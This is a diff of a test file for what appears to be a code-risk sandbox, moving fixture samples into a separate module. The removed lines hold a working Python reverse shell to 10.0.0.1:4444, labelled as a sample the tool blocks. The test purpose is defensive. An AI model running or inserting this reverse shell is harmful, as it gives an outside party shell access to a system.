@@ -9,17 +9,7 @@ import { loadConfig, type SandgateConfig } from "../src/config/index.js";
 import { isSandgateError } from "../src/errors/index.js";
 import { Engine } from "../src/execution/index.js";
 import { Governance, type ApprovalBroker, type GovernanceEvent } from "../src/governance/index.js";
-
-/** Connects to a reverse shell: critical (reverse-shell), blocked at the standard level. Line 4 is the dup2. */
-export const REVERSE_SHELL = [
-  "import socket, subprocess, os",
-  "s = socket.socket()",
-  "s.connect(('10.0.0.1', 4444))",
-  "os.dup2(s.fileno(), 0)",
-  "subprocess.call(['/bin/sh', '-i'])",
-].join("\n");
-/** pickle.loads: a deserialization finding, warned about at the standard level. */
-export const UNPICKLE = "import pickle\nprint(pickle.loads(pickle.dumps([1, 2])))";
+import { REVERSE_SHELL, UNPICKLE } from "./fixtures/risky-code.js";
 
 interface Fixture {
   engine: Engine;
